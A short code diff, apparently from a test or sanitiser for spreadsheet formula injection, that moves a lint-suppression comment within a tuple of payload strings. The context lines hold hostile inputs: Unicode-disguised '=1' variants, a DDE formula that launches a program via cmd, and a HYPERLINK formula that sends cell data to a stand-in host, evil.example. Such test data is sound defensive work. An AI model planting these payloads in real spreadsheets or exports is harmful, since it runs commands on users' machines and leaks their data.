@@ -32,8 +32,8 @@ PAYLOADS = (
         " =1",
         "\u200b=1",
         "\ufeff=1",
-        "＝1",
-    ),  # noqa: RUF001
+        "＝1",  # noqa: RUF001
+    ),
     *(
         "=cmd|' /C calc'!A0",
         '=HYPERLINK("https://evil.example?"&A1,"x")',
